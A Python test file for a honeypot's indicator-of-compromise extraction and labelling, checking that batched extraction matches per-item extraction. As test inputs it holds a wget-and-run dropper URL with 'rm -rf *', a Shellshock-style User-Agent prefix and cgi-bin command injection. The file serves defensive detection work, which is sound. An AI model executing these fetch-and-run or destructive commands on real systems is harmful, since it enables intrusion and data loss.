"""IOC extraction staged over batches (subjects_iocs, extract_many) gives what one subject at a
time gives, and what extraction gave before it was staged (ioc_reference.json.gz)."""

from __future__ import annotations

import sys

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from honeyguard.detect import raw_http_subject, ssh_command_subject
from honeyguard.detect.fields import Subject, event_subject
from honeyguard.detect.iocs import extract_iocs, extract_many, subject_iocs, subjects_iocs
from honeyguard.detect.iocs.extract import Job
from honeyguard.detect.labeler import RuleLabeler
from honeyguard.model import Event, HttpRequest
from tests.detect import _ioc_corpus as corpus
from tests.detect._support import builtin_engine, http_event, joined_payloads

extract_module = sys.modules["honeyguard.detect.iocs.extract"]  # the package exports functions by these names
Found = list[tuple[str, str, str]]


def _plain(iocs: list) -> Found:  # type: ignore[type-arg]
    return [(i.type, i.value, i.role) for i in iocs]


def test_extraction_gives_what_it_gave_before_it_was_staged() -> None:
    inputs, expected = corpus.inputs(), corpus.reference()
    assert len(inputs) == len(expected) and sum(map(bool, expected)) > 3000
    found: list[Found] = []
    for start in range(0, len(inputs), 50):  # batches as the sensor labels them
        jobs = [Job(texts, host) for texts, host in inputs[start : start + 50]]
        found += [_plain(iocs) for iocs in extract_many(jobs)]
    assert found == [[tuple(i) for i in iocs] for iocs in expected]
    for index in range(0, len(inputs), 7):  # and one at a time
        texts, host = inputs[index]
        assert _plain(extract_iocs(texts, host=host)) == [tuple(i) for i in expected[index]]


_payload = joined_payloads(corpus.PIECES)


def _request(payload: bytes, where: int, host: bytes) -> bytes:
    if where == 0:
        return b"GET /cgi-bin/x?cmd=" + payload.replace(b"\n", b"%0a") + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"
    if where == 1:
        return (
            b"POST /api HTTP/1.1\r\nHost: "
            + host
            + b"\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
            + payload
        )
    return (
        b"GET / HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: () { :;}; " + payload.replace(b"\n", b" ") + b"\r\n\r\n"
    )


_requests = st.lists(
    st.builds(_request, _payload, st.integers(0, 2), st.sampled_from(corpus.HOSTS)), min_size=1, max_size=12
)


def _subjects(raw: list[bytes]) -> list[Subject]:
    return [raw_http_subject(r) for r in raw]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_requests, st.lists(_payload, max_size=4))
def test_a_batch_gives_what_each_subject_alone_gives(raw: list[bytes], lines: list[bytes]) -> None:
    one_by_one = [_plain(subject_iocs(s)) for s in _subjects(raw)] + [
        _plain(subject_iocs(ssh_command_subject(line))) for line in lines
    ]
    batch = _subjects(raw) + [ssh_command_subject(line) for line in lines]  # fresh subjects: nothing built yet
    assert [_plain(iocs) for iocs in subjects_iocs(batch)] == one_by_one


@settings(max_examples=100, deadline=None)
@given(
    st.lists(st.tuples(st.lists(_payload, max_size=3), st.sampled_from(corpus.HOSTS)), max_size=10), st.integers(1, 400)
)
def test_stretches_of_any_size_give_the_same(jobs: list[tuple[list[bytes], bytes]], stage_bytes: int) -> None:
    alone = [_plain(extract_iocs(texts, host=host)) for texts, host in jobs]
    original = extract_module.STAGE_BYTES
    extract_module.STAGE_BYTES = stage_bytes  # a stretch of one job, of a few, of all
    try:
        staged = extract_many([Job(tuple(texts), host) for texts, host in jobs])
    finally:
        extract_module.STAGE_BYTES = original
    assert [_plain(iocs) for iocs in staged] == alone


def test_classify_raw_many_labels_a_repeat_once_and_gives_what_classify_raw_gives() -> None:
    dropper = b"GET /shell?cd+/tmp;wget+http://198.51.100.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 203.0.113.1\r\n\r\n"
    ordinary = b"GET / HTTP/1.1\r\nHost: 203.0.113.1\r\n\r\n"
    items = [(dropper, "http"), (ordinary, "http"), (dropper, "http"), (dropper, "other"), (ordinary, "http")]
    batch = RuleLabeler(builtin_engine("hyperscan")).classify_raw_many(items)
    alone = RuleLabeler(builtin_engine("hyperscan"))
    assert batch == [alone.classify_raw(data, protocol) for data, protocol in items]
    assert batch[0] is batch[2] and batch[1] is batch[4]  # each repeat answered by its first
    uncached = RuleLabeler(builtin_engine("hyperscan"), cache_bytes=0).classify_raw_many(items)
    assert uncached == batch and uncached[0] is not uncached[2]  # without a cache, every request afresh
    assert ("url", "http://198.51.100.7/jaws", "download") in _plain(list(batch[0].iocs))


def test_sensor_events_in_a_batch_get_what_each_gets_alone() -> None:
    def event(n: int) -> Event:
        target = f"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws{n};sh+/tmp/jaws"
        headers = [("Host", "203.0.113.1:80")]
        return http_event(HttpRequest(method="GET", target=target, version="HTTP/1.1", headers=headers), number=n)

    events = [event(n) for n in range(40)]
    alone = [_plain(subject_iocs(s)) for s in map(event_subject, events) if s is not None]
    batch = subjects_iocs([s for s in map(event_subject, events) if s is not None])
    assert [_plain(iocs) for iocs in batch] == alone
    assert alone[3] == [("url", "http://198.51.100.7/jaws3", "download"), ("ip", "198.51.100.7", "download")]
